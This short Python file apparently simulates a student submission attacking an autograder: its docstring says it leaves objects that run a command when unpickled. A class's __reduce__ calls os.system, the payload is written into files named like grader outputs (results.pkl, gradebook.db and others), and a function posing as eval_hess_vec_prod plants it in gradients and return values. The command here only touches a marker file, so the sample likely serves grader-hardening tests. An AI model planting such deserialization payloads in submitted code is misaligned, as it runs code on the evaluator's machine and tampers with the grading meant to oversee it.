"""Leaves objects that run a command when unpickled, in gradients, results and files named like the grader's."""

import os
import pickle

import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attacked-by-student",)


class Pickled(torch.Tensor):
    __reduce__ = __reduce_ex__ = Command.__reduce__


for name in ("results.pkl", "results.pt", "results.safetensors", "results.npz", "results.npy", "gradebook.db"):
    with open(name, "wb") as file:
        pickle.dump(Command(), file)


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    for p, v in zip(params, vec):
        p.grad = v.clone().as_subclass(Pickled)
    return [Command()]
